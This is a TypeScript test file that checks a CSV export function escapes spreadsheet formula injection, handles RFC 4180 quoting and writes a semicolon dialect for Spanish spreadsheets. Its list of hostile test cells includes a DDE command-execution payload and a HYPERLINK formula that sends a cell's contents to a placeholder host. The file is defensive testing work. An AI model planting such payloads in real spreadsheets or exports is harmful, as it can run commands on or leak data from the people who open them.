import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { FORMULA_START, toCsv } from './csv.js';

/** What a member or the office may type, each starting like a formula or a DDE call. */
const HOSTILE_CELLS = [
  '=1+2',
  '+34 600 000 000',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+2',
  '\r=1+2',
  '=HYPERLINK("http://x.example/?"&C2,"Ver")',
  '=HYPERLINK("http://x.example/?"&C2,"Ver")\nGracias',
  "=cmd|' /C calc'!A0",
];

/** The cells of a CSV as a spreadsheet program reads them (RFC 4180, the BOM dropped). */
const read = (csv: string): string[][] => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

describe('toCsv', () => {
  it('writes every value that starts like a formula as quoted text, first character only, line breaks included', () => {
    const csv = toCsv(
      ['Nombre', '=Cabecera'],
      HOSTILE_CELLS.map((v, i) => [v, `fila ${i}`]),
    );
    const cells = read(csv);
    expect(cells).toHaveLength(HOSTILE_CELLS.length + 1);
    for (const cell of cells.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    // Each hostile value comes back whole behind the apostrophe that makes it text.
    expect(cells[0]).toEqual(['Nombre', "'=Cabecera"]);
    expect(cells.slice(1).map((row) => row[0])).toEqual(HOSTILE_CELLS.map((v) => `'${v}`));
    // In the file itself each one is a quoted field that opens with the apostrophe.
    for (const v of HOSTILE_CELLS) expect(csv).toContain(`"'${v.replaceAll('"', '""')}"`);
  });

  it('keeps ordinary text, numbers and empty cells as they are, in RFC 4180 with a BOM', () => {
    const csv = toCsv(
      ['a', 'b', 'c', 'd', 'e'],
      [
        ['Ane Zubia', 45.5, -12.5, null, 'gorro, rojo'],
        ['1-2', 0, '', undefined, 'dice "hola"'],
      ],
    );
    expect(csv).toBe('\uFEFFa,b,c,d,e\r\nAne Zubia,45.5,-12.5,,"gorro, rojo"\r\n1-2,0,,,"dice ""hola"""\r\n');
  });

  it('writes the semicolon dialect for Spanish spreadsheets: ";" between cells, decimal commas, quoting and formula escapes kept', () => {
    const csv = toCsv(
      ['Nombre', 'Importe (€)'],
      [
        ['Ane; Zubia', 45.5],
        ['=1+2', -12.5],
        ['-2+3', 0],
        ['dice "hola"', 1234.25],
      ],
      { dialect: 'semicolon' },
    );
    expect(csv).toBe('\uFEFFNombre;Importe (€)\r\n"Ane; Zubia";45,5\r\n"\'=1+2";-12,5\r\n"\'-2+3";0\r\n"dice ""hola""";1234,25\r\n');
    const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ';', skipEmptyLines: true }).data;
    expect(cells[1]).toEqual(['Ane; Zubia', '45,5']);
    expect(cells[2]).toEqual(["'=1+2", '-12,5']);
  });
});
